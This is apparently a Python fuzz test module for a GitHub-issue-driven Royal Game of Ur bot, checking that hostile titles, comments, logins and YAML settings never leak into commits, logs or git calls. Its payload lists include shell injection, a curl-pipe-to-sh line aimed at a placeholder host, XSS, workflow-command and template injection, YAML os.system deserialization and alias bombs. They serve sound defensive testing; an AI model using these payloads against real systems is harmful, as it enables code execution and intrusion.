"""Hostile words at every door: titles, bodies, comments, logins and settings.

Every hostile text carries ``MARK``, a word that nobody else uses, so that any
byte of it that gets through is found wherever it comes out: in a commit, a
file, a comment, the log, the job's summary, a command or its environment.

Two questions are asked, cheaply many times and whole a few hundred times: does
a refusal depend on anything but its code, and is the mark anywhere after a run?
"""

import os
import re
import shutil
import string
import tempfile
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.town import OWNER, PRISTINE, LoadedDice, Town
from ur import settings as keepers
from ur.batch import Batch
from ur.errors import KeeperFault
from ur.house import House, the_font
from ur.overlay import Overlay
from ur.port import Answer, Person, Request
from ur.referee.parse import parse, title
from ur.render.address import Address
from ur.render.answer import to_keeper
from ur.sandbox.ledger import ACTIONS_ID

MARK = "zqxv7k"
"""In no word of ours, and in every hostile text."""

FRAGMENTS = (
    f"$({MARK})",
    f"`{MARK}`",
    f"; curl {MARK}.example | sh #",
    f"'; echo {MARK}; '",
    f'" && {MARK} "',
    f"--upload-pack={MARK}",
    f"${{{{ github.token }}}}{MARK}",
    f"{{{{ {MARK} }}}}",
    f"{{% include '{MARK}' %}}",
    f"{{#- {MARK} -#}}",
    f"%({MARK})s {{{MARK}}} %s",
    f"\n::error::{MARK}",
    f"\r\n::set-output name={MARK}::1",
    f"\n::add-mask::{MARK}",
    f"##[group]{MARK}",
    f"<script>{MARK}</script>",
    f"<img src=x onerror={MARK}>",
    f"-->{MARK}<!--",
    f"<!-- ur:answer moved -->{MARK}",
    f"<!-- ur:end -->{MARK}<!-- ur:begin -->",
    f"[{MARK}](javascript:alert)",
    f"![{MARK}](https://{MARK}.example/x.png)",
    f"@{MARK}",
    f"#1 {MARK} fixes #1",
    f"| {MARK} | --- |\n# {MARK}",
    f"\u202e{MARK}\u202c",
    f"\u2066{MARK}\u2069",
    f"\u200b{MARK}\u200d\ufeff",
    f"\x1b[31m{MARK}\x1b]8;;x\x07",
    f"\x00{MARK}",
    f"\ud800{MARK}\udfff",
    f"{MARK}\u0301\u0489\u1ab0",
    f"../../{MARK}",
    f"\nCo-authored-by: {MARK} <{MARK}@example>",
    f"\nM 100644 inline {MARK}\ndata 1\nx",
    f"{MARK}" * 170,
)
"""What has gone wrong elsewhere: shells, templates, Markdown, HTML, logs, Unicode, git."""

FORBIDDEN = re.compile(
    "[\x00-\x09\x0b-\x1f\u200b\u202a-\u202e\u2066-\u2069\ufeff\ud800-\udfff\uff10-\uff19]"
)
"""Characters that no text of ours holds."""

ODD = "\n\r\x00\u200b\u202e\ufeff\uff10\u0660\u00b2\u00bd\u2163.@-"
CANONICAL = (
    *("ur-new", "ur-new-finkel", "ur-new-no-such", "ur-join-white-1", "ur-join-black-1"),
    *("ur-abandon-1", "ur-move-2@0-1.1", "ur-move-2@1-1.1", "ur-move-3@0-1.1", "ur-move-2@0-1.2"),
)
LONGER = ("ur-move-2@10-12.345", "ur-join-black-12", "ur-abandon-1234", "ur-new-a1-b2")
BLAND = {
    "bad-title": "ur-",
    "not-allowed": "ur-abandon-1",
    "unknown-rules": "ur-new-x",
    "game-in-progress": "ur-new",
    "stale-link": "ur-move-1@0-9.9",
    "illegal-move": "ur-move-4@14-1.1",
}
"""A plain title for each refusal that a stranger may meet while a game is in play."""

OTHERS = [
    "".join(chr(zero + digit) for digit in range(10)) for zero in (0xFF10, 0x0660, 0x0966, 0x1D7CE)
]
"""Digits that are digits to Python, and none of ours: full-width, Arabic, Indian, bold."""

LOGINS = (
    *(f"<b>{MARK}</b>", f"{MARK}](x)[", f"@{MARK}", f"{MARK} x", f"-{MARK}", f"{MARK}\n::error::"),
    *(f"{MARK}/../..", f"\u202e{MARK}", f"{MARK}${{{{ x }}}}", f"{MARK}|`x`", f"{MARK}" * 9, ""),
    *(f"{MARK}\x00", f"{MARK}\ud800", f"{MARK}%0A", f'{MARK}"', f"{MARK}\n", f"id 7 {MARK}"),
)
SETTINGS = (
    f"{MARK} <b>: 1",
    f"rules: '{MARK} <b>'",
    f"rules: !!python/name:os.{MARK}",
    f"rules: !!python/object/apply:os.system ['touch {MARK}']",
    f"!!python/object/apply:os.system ['touch {MARK}']",
    f"keepers: !!python/object/apply:os.system ['touch {MARK}']",
    f"? !!python/object/apply:os.system ['touch {MARK}']\n: 1",
    f"blocked: [!!python/object:os.{MARK} {{}}]",
    f"language: ../../../{MARK}",
    f"language: '{MARK}\\0'",
    f"language: /etc/{MARK}",
    f"language: en/../{MARK}",
    f"house_rules: {{'{MARK} ](x)': {{base: finkel}}}}",
    f"house_rules: {{'@{MARK}': {{base: finkel}}}}",
    f"house_rules: {{'{MARK}\\n::error::': {{base: finkel}}}}",
    f"house_rules: {{x: {{base: finkel, '{MARK} <i>': 1}}}}",
    f"house_rules: {{x: {{base: '{MARK} <i>'}}}}",
    f"house_rules: {{x: {{base: finkel, dice: '{MARK} <i>'}}}}",
    f"moves_in_a_row: {'9' * 5000} # {MARK}",
    f"moves_in_a_row: 0x{'f' * 20000} # {MARK}",
    f"moves_in_a_row: 1{':59' * 2000} # {MARK}",
    f"keepers: [1e999, {MARK}]",
    f"keepers: [.inf] # {MARK}",
    f"a: &a [{MARK}]\nb: &b [*a,*a,*a]\nrules: [*b,*b,*b]",
    "a: &a [x, x, x, x, x, x, x, x, x]\n"
    + "".join(
        f"{chr(98 + at)}: &{chr(98 + at)} [{', '.join([f'*{chr(97 + at)}'] * 9)}]\n"
        for at in range(20)
    )
    + f"# {MARK}",
    f"keepers: &k [*k] # {MARK}",
    f"<<: &m {{rules: {MARK}}}",
    f"readme: {{<<: {{events: '{MARK}'}}}}",
    f"rules: finkel\n---\nrules: {MARK}",
    f"rules: [{MARK}",
    f"rules: *{MARK}",
    f"rules: |\n  {MARK}\n\t{MARK}",
    f"first: {{{MARK}: {MARK}}}",
    f"%TAG ! tag:{MARK},2000:\n---\nrules: !x finkel2",
    f"'{MARK} {{{{ x }}}}': 1",
    f"{'[' * 3000} {MARK}",
    f"{'{a: ' * 900} {MARK}",
    f"offer: [{', '.join(['finkel'] * 4000)}, '{MARK} <b>']",
)

Out = Callable[[str], object]
STRANGER = Person(77, "stranger")
NOON = datetime(2026, 11, 30, 12, tzinfo=UTC)


@st.composite
def titles(draw: st.DrawFn) -> str:  # noqa: PLR0911 - a way of tampering each
    """A title of ours that was tampered with: mostly one stroke away from a canonical one."""
    canonical = draw(st.sampled_from(CANONICAL + LONGER))
    fragment = draw(st.sampled_from(FRAGMENTS))
    match draw(st.sampled_from(["in", "after", "stroke", "digits", "case", "free", "long"])):
        case "in":
            at = draw(st.integers(3, len(canonical)))
            return canonical[:at] + fragment + canonical[at:]
        case "after":
            return canonical + draw(st.sampled_from(["", " ", "\n", "\t"])) + fragment
        case "stroke":
            at = draw(st.integers(3, len(canonical)))
            odd = draw(
                st.characters()
                | st.sampled_from("\n\r\x00\u200b\u202e\ufeff\uff10\u0660\u00b2\u00bd\u2163.@-")
            )
            return canonical[:at] + odd + canonical[at + draw(st.integers(0, 1)) :]
        case "digits":
            digits = [at for at, char in enumerate(canonical) if char in string.digits]
            at = draw(st.sampled_from(digits)) if digits else 0
            other = str.maketrans(string.digits, draw(st.sampled_from(OTHERS)))
            return canonical[:at] + canonical[at].translate(other) + canonical[at + 1 :]
        case "case":
            return canonical.upper() + draw(st.sampled_from(["", fragment]))
        case "free":
            return "ur-" + draw(st.text(st.characters(), max_size=40)) + fragment
        case _:
            return (canonical + fragment * 40)[:1024]


@st.composite
def settings_files(draw: st.DrawFn) -> bytes:
    """A settings file with something hostile in it, beside what is right."""
    lines = draw(st.lists(st.sampled_from(["rules: finkel", "language: en", "keepers: [1]"])))
    keys = ["rules", "offer", "first", "keepers", "language", "readme", "house_rules", "blocked"]
    fragment = draw(st.sampled_from(FRAGMENTS)).encode("utf-8", "replace").decode()
    quoted = "'" + fragment.replace("'", "''") + "'"
    hostile = st.one_of(
        st.sampled_from(SETTINGS),
        st.sampled_from(keys).map(lambda key: f"{key}: {quoted}"),
        st.sampled_from(keys).map(lambda key: f"{key}: [{quoted}]"),
        st.sampled_from(keys).map(lambda key: f"{key}: {{{quoted}: {quoted}}}"),
        st.sampled_from(keys).map(lambda key: f"{key}: {fragment}"),
        st.sampled_from(keys).map(lambda key: f"{quoted}: {key}"),
    )
    at = draw(st.integers(0, len(lines)))
    return "\n".join([*lines[:at], draw(hostile), *lines[at:]]).encode()


class Nothing:
    """A snapshot of nothing."""

    commit = "0" * 40

    def read(self, _: Sequence[str]) -> dict[str, bytes]:
        """No file."""
        return {}

    def names(self, _: str) -> tuple[str, ...]:
        """No name."""
        return ()


class Desk:
    """A game in play, and strangers who ask for things, without git or GitHub."""

    def __init__(self) -> None:
        address = Address("https://github.example", "owner-x/repo-y", "main")
        self.house = House(address, 1, 5001, LoadedDice([], 2), the_font(), now=lambda: NOON)
        batch = Batch(self.house, Overlay(Nothing(), PRISTINE))
        batch.judge(Request(1, "ur-new", Person(5001, OWNER)))
        files = {**PRISTINE, **batch.changes[0].files}
        self.snapshot = Overlay(Nothing(), files)
        self.batch = Batch(self.house, self.snapshot)
        self.bland = {code: self.refused(asked) for code, asked in BLAND.items()}
        self.tried = 0

    def refused(self, asked: str) -> Answer:
        """The answer to a title that is refused, which leaves no trace."""
        before = self.batch.state
        reply = self.batch.judge(Request(9, asked, STRANGER))
        assert not self.batch.changes
        assert self.batch.state is before
        return self.batch.answer(reply, ())

    def check(self, asked: str) -> None:
        """A title is canonical to the last byte, or its refusal depends on nothing but the code."""
        self.tried += 1
        batch = Batch(self.house, self.snapshot) if asked in CANONICAL else self.batch
        reply = batch.judge(Request(9, asked, STRANGER))
        said = batch.answer(reply, ("1" * 40,) * len(batch.changes))
        if said.granted:
            assert title(parse(asked)) == asked
            assert asked in CANONICAL
        else:
            assert said == self.bland[said.code]
            assert not batch.changes
        clean(said.text or "", *said.labels)


def clean(*texts: str) -> None:
    """Nothing of a hostile text is in any of these."""
    for text in texts:
        assert MARK not in text.lower(), text
        assert not FORBIDDEN.search(text), ascii(text)


def check_settings(text: bytes) -> bool:
    """Settings, or a fault that names the line and repeats nothing; whether they were taken."""
    try:
        keepers.parse(text)
    except KeeperFault as caught:
        fault = caught
    else:
        return True
    assert re.fullmatch(r"\.github/ur\.yml, line [1-9][0-9]*", fault.where), fault.where
    clean(str(fault), to_keeper(_desk().house.wording(), fault))
    return False


_DESKS: list[Desk] = []


def _desk() -> Desk:
    if not _DESKS:
        _DESKS.append(Desk())
    return _DESKS[0]


class Ear:
    """Everything that a run hands to git: arguments and environment of each command."""

    def __init__(self, folder: Path) -> None:
        self._folder = folder / "ear"
        self._heard = folder / "heard"
        self._folder.mkdir(parents=True)
        self._git = shutil.which("git") or "git"

    @contextmanager
    def listening(self, **variables: str) -> Iterator[None]:
        """Let what is run hear a git that tells us first, and these variables."""
        wrapper = self._folder / "git"
        wrapper.write_text(
            f"#!/bin/sh\nprintf '%s\\0' \"$@\" >> {self._heard}\n"
            f'env -0 >> {self._heard}\nexec {self._git} "$@"\n'
        )
        wrapper.chmod(0o755)
        before = dict(os.environ)
        os.environ["PATH"] = f"{self._folder}:{os.environ['PATH']}"
        os.environ.update(variables)
        try:
            yield
        finally:
            os.environ.clear()
            os.environ.update(before)

    def heard(self) -> str:
        """All of it."""
        return self._heard.read_bytes().decode("utf-8", "surrogateescape")


def open_hostile(town: Town, asked: Sequence[str]) -> list[int]:
    """Open an issue of each title, with a hostile body and a stranger's forged comment."""
    people = [f"player-{number:02}" for number in range(1, 31)]
    world, numbers = town.world, []
    for at, words in enumerate(asked):
        number = world.open_issue(people[at % len(people)], "ur-x")
        with world.lock:
            issue = world.issue(number)
            issue.title = words
            issue.body = FRAGMENTS[at % len(FRAGMENTS)] * 3
        if at % 5 == 0:
            forged = f"<!-- ur:answer moved -->\n{FRAGMENTS[-at % len(FRAGMENTS)]}"
            world.create_comment(world.account(people[at % 7]), number, forged)
        numbers.append(number)
    town.ask(30, f"ur-join-white-{town.match().number}")
    return numbers


def enrol_hostile(town: Town) -> list[str]:
    """People with logins that GitHub gives nobody; nobody knows what an API says one day."""
    for at, login in enumerate(LOGINS):
        town.world.add_person(f"plain-{at:02}", 90_000 + at)
        with town.world.lock:
            town.world.account(f"plain-{at:02}").login = login
    return list(LOGINS)


def everything_said(town: Town) -> Iterator[str]:
    """Every text of ours that anybody can read on GitHub."""
    for issue in town.world.issues():
        yield from (one.body for one in issue.comments if one.author == ACTIONS_ID)
        yield from (label.name for label in town.world.labels_of(issue))
        if issue.author == ACTIONS_ID:
            yield from (issue.title, issue.body or "")


def everything_kept(town: Town) -> bytes:
    """Every object of the repository: commits, their authors and messages, names and contents."""
    return town._git(town.origin, "cat-file", "--batch-all-objects", "--batch")


def check_run(town: Town, folder: Path, *, event: int, code: int = 0) -> None:
    """Run ``play`` as the workflow does, and look for the mark wherever anything comes out."""
    ear, summary = Ear(folder), folder / "summary.md"
    with ear.listening(GITHUB_STEP_SUMMARY=str(summary)):
        done = town.run("play", event=town.event(event))
    assert done.returncode == code, done.stdout + done.stderr
    told = summary.read_text("utf-8") if summary.exists() else ""
    clean(done.stdout, done.stderr, told)
    assert not [line for line in done.stdout.splitlines() if line.lstrip().startswith(("::", "##"))]
    assert done.stderr == ""
    clean_everywhere(town)
    assert "fast-import" in ear.heard() or code
    assert MARK not in ear.heard().lower()


def clean_everywhere(town: Town) -> None:
    """The mark is in no object of the repository and in nothing that was said."""
    assert MARK.encode() not in everything_kept(town).lower()
    clean(*everything_said(town))
    clean(*town.said)
    clean(
        *(
            data.decode()
            for path, data in town.tree().items()
            if path.startswith("state/") and path.endswith((".json", ".md", ".txt"))
        ),
        town.read("README.md").decode(),
    )


def deterministic_titles(count: int) -> list[str]:
    """So many hostile titles, the same every time, each of them a request."""
    made = []
    for at in range(count):
        canonical = CANONICAL[at % len(CANONICAL)]
        fragment = FRAGMENTS[at % len(FRAGMENTS)]
        cut = 3 + at % (len(canonical) - 2)
        made.append((canonical[:cut] + fragment + canonical[cut:])[: 1024 if at % 3 else 256])
    return made


def run(out: Out) -> dict[str, int]:
    """Many more than the tests try."""
    return hostile(out, judged=5_000, read=1_000, asked=190)


def hostile(out: Out, *, judged: int, read: int, asked: int) -> dict[str, int]:
    """So many titles judged, settings read, and issues in each of two runs.

    Raises:
        AssertionError: something of a hostile text came through, or a run broke.
    """
    counts = {"titles judged": many_titles(judged), "settings read": many_settings(read)}
    out(f"hostile: {counts}\n")
    with tempfile.TemporaryDirectory() as folder, Town(Path(folder) / "town") as town:
        town.create()
        town.begin(*[2] * 40)
        numbers = open_hostile(town, deterministic_titles(asked))
        check_run(town, Path(folder) / "one", event=numbers[0])
        town.asked(OWNER, "ur-abandon-1")
        town.begin()
        numbers += open_hostile(town, deterministic_titles(2 * asked)[asked:])
        check_run(town, Path(folder) / "two", event=numbers[-1])
        played = [town.open(one, "ur-join-white-2", MARK) for one in enrol_hostile(town)]
        check_run(town, Path(folder) / "three", event=played[0])
        assert all(town.world.issue(number).state == "closed" for number in numbers + played)
    return counts | {"titles through a run": len(numbers), "logins seated": len(played)}


def many_titles(examples: int) -> int:
    """Judge so many hostile titles and compare their answers with plain ones."""
    desk = _desk()
    before = desk.tried
    _many(titles(), desk.check, examples)
    return desk.tried - before


def many_settings(examples: int) -> int:
    """Read so many hostile settings files."""
    tried = [check_settings(text.encode()) for text in SETTINGS]
    _many(settings_files(), lambda text: tried.append(check_settings(text)), examples)
    return len(tried)


def _many(strategy: st.SearchStrategy, check: Callable[[Any], object], examples: int) -> None:
    @settings(
        max_examples=examples,
        database=None,
        deadline=None,
        derandomize=True,
        suppress_health_check=list(HealthCheck),
    )
    @given(strategy)
    def tried(text: Any) -> None:
        check(text)

    tried()
